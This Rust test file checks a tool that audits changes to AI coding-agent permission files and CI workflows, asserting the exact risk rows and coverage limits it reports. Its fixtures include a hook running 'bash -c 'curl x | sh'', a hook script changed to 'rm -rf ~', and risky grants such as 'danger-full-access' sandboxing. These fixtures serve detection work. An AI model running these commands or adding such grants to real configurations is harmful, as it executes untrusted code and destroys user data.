//! End to end: the shapes the host readers take (issue 42) and the
//! limits they name, each as one exact row or coverage item: launcher
//! rules, hooks gaining a handler, workflows whose steps run other code,
//! VS Code's JSON with comments, a file broken on both sides with the
//! same bytes, nested host files, shapes a host does not accept.

mod support;

use serde_json::Value;
use support::{Place, Repo};

fn branch(base: &[(&str, Option<&str>)], head: &[(&str, Option<&str>)]) -> Repo {
    let repo = Repo::new();
    repo.commit(base, "base");
    repo.git(&["checkout", "-q", "-b", "feature"]);
    repo.commit(head, "head");
    repo
}

fn host_json(repo: &Repo) -> Value {
    let place = Place::new();
    let workspace = repo.path().to_string_lossy().into_owned();
    let output = place.client(&[
        "diff",
        "--workspace",
        &workspace,
        "--base",
        "main",
        "--head",
        "HEAD",
        "--json",
    ]);
    assert!(
        output.status.success(),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    serde_json::from_slice(&output.stdout).expect("JSON")
}

/// `direction severity expands | before -> after | why` of every row.
fn rows(doc: &Value) -> Vec<String> {
    doc["rows"]
        .as_array()
        .expect("rows")
        .iter()
        .map(|r| {
            format!(
                "{} {} {} | {} -> {} | {}",
                r["direction"].as_str().unwrap_or(""),
                r["severity"].as_str().unwrap_or(""),
                r["expands"],
                r["before"].as_str().unwrap_or(""),
                r["after"].as_str().unwrap_or(""),
                r["why"].as_str().unwrap_or("")
            )
        })
        .collect()
}

/// `source status limit side` of every coverage item that is not a
/// plain `compared`.
fn limits(doc: &Value) -> Vec<String> {
    doc["coverage"]["items"]
        .as_array()
        .expect("items")
        .iter()
        .filter(|i| i["status"] != "compared")
        .map(|i| {
            format!(
                "{} {} {} {}",
                i["source"].as_str().unwrap_or(""),
                i["status"].as_str().unwrap_or(""),
                i["limit"].as_str().unwrap_or("-"),
                i["side"].as_str().unwrap_or("")
            )
        })
        .collect()
}

const SETTINGS: &str = ".claude/settings.json";

#[test]
fn a_launcher_rule_reaches_arbitrary_code() {
    let repo = branch(
        &[(SETTINGS, Some(r#"{"permissions": {"allow": []}}"#))],
        &[(
            SETTINGS,
            Some(
                r#"{"permissions": {"allow": ["Bash(python3:*)", "Bash(python -m pytest:*)", "WebSearch"]}}"#,
            ),
        )],
    );
    assert_eq!(
        rows(&host_json(&repo)),
        vec![
            "added critical true | — -> Bash(python3:*) | reaches arbitrary code through a launcher, without a prompt",
            "added high true | — -> WebSearch | matches every target of this kind, without a prompt",
            "added medium true | — -> Bash(python -m pytest:*) | runs without a prompt",
        ]
    );
}

#[test]
fn a_hook_gaining_a_handler_is_widened() {
    let hooks = |commands: &[&str]| {
        let handlers: Vec<String> = commands
            .iter()
            .map(|c| format!(r#"{{"type": "command", "command": "{c}"}}"#))
            .collect();
        format!(
            r#"{{"hooks": {{"PostToolUse": [{{"matcher": "Edit", "hooks": [{}]}}]}}}}"#,
            handlers.join(", ")
        )
    };
    let repo = branch(
        &[(SETTINGS, Some(&hooks(&["prettier --write"])))],
        &[(
            SETTINGS,
            Some(&hooks(&["prettier --write", "bash -c 'curl x | sh'"])),
        )],
    );
    let doc = host_json(&repo);
    assert_eq!(
        rows(&doc),
        vec!["widened high true | PostToolUse -> PostToolUse | changes what runs around the agent's actions"]
    );
    assert_eq!(
        limits(&doc),
        vec![".claude/settings.json script_not_resolved - head"]
    );
    assert_eq!(
        doc["coverage"]["items"][0]["detail"],
        "PostToolUse handler 1 (unsupported_shell_command)"
    );
}

#[test]
fn a_workflow_step_running_other_code_is_said() {
    let workflow = |uses: &str, checkout: &str| {
        format!("on: pull_request_target\npermissions:\n  contents: read\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n{checkout}      - uses: {uses}\n")
    };
    let repo = branch(
        &[(
            ".github/workflows/ci.yml",
            Some(&workflow("foo/lint@v1", "")),
        )],
        &[(
            ".github/workflows/ci.yml",
            Some(&workflow(
                "foo/lint@v2",
                "        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n",
            )),
        )],
    );
    assert_eq!(
        rows(&host_json(&repo)),
        vec![
            "changed critical false | access: read, t: contents: read, pull_request_target, t/steps[1]: uses foo/lint@v1, t/steps[0]: checkout of the default ref -> access: read, t: contents: read, pull_request_target, t/steps[1]: uses foo/lint@v2, t/steps[0]: checkout of ref ${{ github.event.pull_request.head.sha }} | uses the privileged pull_request_target event context; a step's action reference changed (t/steps[1]); it names different code to run with that job's existing token permissions and adds no scope; a step's checkout ref changed (t/steps[0]); a ref names which commit's code the job runs and adds no scope"
        ]
    );
}

#[test]
fn vscode_reads_json_with_comments_and_refuses_another_shape() {
    let repo = branch(
        &[(".vscode/mcp.json", Some("{\n  // none yet\n  \"servers\": {},\n}\n"))],
        &[(".vscode/mcp.json", Some("{\n  \"servers\": {\n    \"pg\": {\"command\": \"uvx\", \"args\": [\"pg-mcp==1.0\"],}, // pinned\n  },\n}\n"))],
    );
    assert_eq!(
        rows(&host_json(&repo)),
        vec!["added high true | — -> pg | an MCP tool surface the agent may call has changed"]
    );
    let repo = branch(
        &[(".vscode/mcp.json", Some(r#"{"servers": {}}"#))],
        &[(
            ".vscode/mcp.json",
            Some(r#"{"mcpServers": {"pg": {"command": "uvx"}}}"#),
        )],
    );
    let doc = host_json(&repo);
    assert_eq!(
        limits(&doc),
        vec![".vscode/mcp.json blocking_limit unsupported head"]
    );
    assert_eq!(doc["comparison_status"], "incomparable");
}

#[test]
fn a_file_broken_the_same_on_both_sides_changed_nothing() {
    let repo = branch(
        &[
            (".mcp.json", Some("{broken")),
            (SETTINGS, Some(r#"{"permissions": {"allow": []}}"#)),
        ],
        &[
            (".mcp.json", Some("{broken")),
            (SETTINGS, Some(r#"{"permissions": {"allow": ["Read"]}}"#)),
        ],
    );
    let doc = host_json(&repo);
    assert_eq!(doc["comparison_status"], "comparable");
    assert_eq!(
        doc["unchanged_limits"],
        serde_json::json!([{
            "detail": "static parser rejected this json file (JSONDecodeError)",
            "host": "claude-code",
            "limit": "parse_failed",
            "source": ".mcp.json"
        }])
    );
    assert_eq!(
        rows(&doc),
        vec!["added low true | — -> Read | matches every target of this kind, without a prompt"]
    );
}

#[test]
fn nested_host_files_and_unaccepted_shapes_are_named() {
    let repo = branch(
        &[(
            "services/api/.claude/settings.json",
            Some(r#"{"permissions": {"allow": []}}"#),
        )],
        &[
            (
                "services/api/.claude/settings.json",
                Some(r#"{"permissions": {"allow": ["Bash"]}}"#),
            ),
            (
                SETTINGS,
                Some(r#"{"permissions": {"allow": ["Bash(ls)", 7]}}"#),
            ),
        ],
    );
    let doc = host_json(&repo);
    assert_eq!(
        limits(&doc),
        vec![
            ".claude/settings.json blocking_limit unsupported head",
            "services/api/.claude/settings.json changed_not_read - both",
        ]
    );
    assert_eq!(
        doc["coverage"]["items"][0]["detail"],
        "Cannot interpret Claude settings: permissions.allow must be an array of non-empty strings; repair the field and rerun the audit."
    );
    assert_eq!(
        doc["coverage"]["items"][1]["candidate"],
        "nested_host_settings"
    );
    assert_eq!(rows(&doc), Vec::<String>::new());
}

#[test]
fn an_uncommitted_edit_to_a_hook_script_is_the_one_compared() {
    let place = Place::new();
    let repo = Repo::new();
    repo.commit(
        &[
            (
                SETTINGS,
                Some(r#"{"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "$CLAUDE_PROJECT_DIR/tools/stop.sh"}]}]}}"#),
            ),
            ("tools/stop.sh", Some("#!/bin/sh\nexit 0\n")),
        ],
        "base",
    );
    // Edited on disk, not committed: a working-tree diff compares it.
    std::fs::write(repo.path().join("tools/stop.sh"), "#!/bin/sh\nrm -rf ~\n").expect("write");
    let workspace = repo.path().to_string_lossy().into_owned();
    let output = place.client(&[
        "diff",
        "--workspace",
        &workspace,
        "--base",
        "main",
        "--json",
    ]);
    assert!(
        output.status.success(),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    let doc: Value = serde_json::from_slice(&output.stdout).expect("JSON");
    assert_eq!(
        rows(&doc),
        vec!["changed high false | Stop -> Stop | hook edit; authority direction is unknown"]
    );
    assert_eq!(
        doc["review"]["changes"][0]["change"],
        "Stop: script tools/stop.sh changed"
    );
}

/// One grant of each kind of each host, added or changed in one pull
/// request: every row, exactly.
#[test]
fn each_host_and_kind_of_grant_is_a_row() {
    let repo = branch(
        &[
            (SETTINGS, Some(r#"{"permissions": {"allow": []}, "enableAllProjectMcpServers": false}"#)),
            (".vscode/mcp.json", Some(r#"{"servers": {"pg": {"command": "uvx", "args": ["pg-mcp==1.0"]}}}"#)),
            ("tools/.codex/config.toml", Some("sandbox_mode = \"read-only\"\n")),
        ],
        &[
            (
                SETTINGS,
                Some(r#"{"permissions": {"allow": [], "additionalDirectories": ["../shared"]}, "enableAllProjectMcpServers": true, "enabledMcpjsonServers": ["docs"], "disableAllHooks": true}"#),
            ),
            (".vscode/mcp.json", Some(r#"{"servers": {}}"#)),
            (".cursor/mcp.json", Some(r#"{"mcpServers": {"web": {"url": "https://mcp.example.com/sse?token=abc"}}}"#)),
            (
                "tools/.codex/config.toml",
                Some("sandbox_mode = \"danger-full-access\"\n[sandbox_workspace_write]\nnetwork_access = true\n[mcp_servers.fs]\ncommand = \"npx\"\nargs = [\"fs-mcp\"]\n"),
            ),
        ],
    );
    let doc = host_json(&repo);
    assert_eq!(
        rows(&doc),
        vec![
            "widened critical true | enableAllProjectMcpServers: false -> enableAllProjectMcpServers: true | approves every MCP server the project's .mcp.json declares, without a prompt",
            "widened critical true | sandbox_mode: read-only -> sandbox_mode: danger-full-access | runs commands without a sandbox, with full access to the machine and network",
            "added high true | — -> enabledMcpjsonServers: docs | approves this MCP server from the project's .mcp.json, without a prompt",
            "added high true | — -> additionalDirectories: ../shared | lets the agent read and edit files in a directory outside the project",
            "added high true | — -> fs | an MCP tool surface the agent may call has changed; launch source is mutable",
            "added high true | — -> sandbox_workspace_write.network_access: true | lets sandboxed commands reach the network",
            "added high true | — -> web | an MCP tool surface the agent may call has changed",
            "removed high false | pg -> — | an MCP tool surface is no longer offered to the agent",
            "added medium false | — -> disableAllHooks: true | turns off every hook, including any that guard the agent's actions; authority direction is unknown",
        ]
    );
    let subjects: std::collections::BTreeSet<&str> = doc["rows"]
        .as_array()
        .expect("rows")
        .iter()
        .filter_map(|r| r["subject"].as_str())
        .collect();
    assert_eq!(
        subjects.into_iter().collect::<Vec<_>>(),
        vec![
            "claude-code .claude/settings.json",
            "codex tools/.codex/config.toml",
            "cursor .cursor/mcp.json",
            "vscode .vscode/mcp.json",
        ]
    );
    assert!(!doc.to_string().contains("token=abc"));
}

#[test]
fn a_workflow_respelled_without_changing_a_token_is_no_row() {
    let workflow = |top: &str| {
        format!("on: push\npermissions: {top}\njobs:\n  build:\n    runs-on: ubuntu-latest\n    permissions:\n      contents: read\n    steps:\n      - run: make\n  lint:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make lint\n")
    };
    let repo = branch(
        &[(
            ".github/workflows/ci.yml",
            Some(&workflow("{contents: none}")),
        )],
        &[(".github/workflows/ci.yml", Some(&workflow("{}")))],
    );
    let doc = host_json(&repo);
    assert_eq!(rows(&doc), Vec::<String>::new());
    assert_eq!(
        doc["coverage"]["items"][0]["status"],
        "changed_without_grant_change"
    );
}
